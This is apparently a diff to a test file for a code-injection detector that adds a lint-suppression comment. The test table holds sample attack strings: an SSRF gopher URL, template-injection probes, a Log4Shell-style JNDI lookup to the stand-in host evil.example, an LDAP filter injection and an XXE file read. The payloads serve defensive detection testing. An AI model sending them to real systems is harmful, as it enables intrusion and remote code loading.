@@ -25,6 +25,7 @@ describe('detectCodeInjection', () => {
     ['ssrf', 'callback=gopher://10.0.0.3:11211/_stats'],
     ['template_injection', 'Hello {{7*7}}'],
     ['template_injection', "{{ ''.__class__.__mro__ }}"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a literal dollar-brace string.
     ['template_injection', '${jndi:ldap://evil.example/x}'],
     ['ldap_injection', 'user=*)(|(objectClass=*'],
     ['xxe', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
